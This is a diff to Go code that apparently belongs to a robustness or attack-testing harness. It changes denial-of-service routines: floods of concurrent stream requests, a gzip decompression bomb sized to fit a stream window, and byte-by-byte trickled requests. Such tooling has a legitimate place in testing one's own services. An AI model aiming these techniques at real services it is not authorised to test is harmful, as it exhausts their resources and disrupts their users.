@@ -26,26 +26,31 @@ func healthRequests(ctx context.Context, a Attacker) {
 	requests(ctx, a, 50, func(c *framed) []byte { return c.call(health) }, body)
 }
 
+// answered is for how long answers are waited for.
+const answered = 300 * time.Millisecond
+
 // requests sends a body, again and again, on many connections.
 func requests(ctx context.Context, a Attacker, connections int, headers func(*framed) []byte, body []byte) {
 	together(ctx, connections, func(ctx context.Context) {
-		withFrames(ctx, a.Target, func(c *framed) {
+		withFrames(ctx, a, func(c *framed) {
 			for range 20 {
 				id, err := c.open(headers(c))
 				if err != nil || c.send(id, body) != nil || ctx.Err() != nil {
 					return
 				}
 			}
+			pause(ctx, answered)
 		})
 	})
 }
 
-// bomb is a gigabyte of zeros, as gzip has it: a megabyte.
+// bomb is zeros, as gzip has them, a thousandth of their size: it fits into the window of a
+// stream, so it is unpacked, and all that are sent at once would be gigabytes.
 var bomb = sync.OnceValue(func() []byte {
 	var b bytes.Buffer
 	z := gzip.NewWriter(&b)
 	block := make([]byte, 1<<20)
-	for range 1 << 10 {
+	for range 48 {
 		_, _ = z.Write(block) // into memory
 	}
 	_ = z.Close()
@@ -77,7 +82,7 @@ func nested(ctx context.Context, a Attacker) {
 // trickledRequest sends requests byte by byte, so many that they are in each other's way.
 func trickledRequest(ctx context.Context, a Attacker) {
 	together(ctx, 100, func(ctx context.Context) {
-		withFrames(ctx, a.Target, func(c *framed) {
+		withFrames(ctx, a, func(c *framed) {
 			id, err := c.open(c.call(receipts, token(a.Token)))
 			if err != nil || c.send(id, message(false, megabytes, nil)) != nil {
 				return
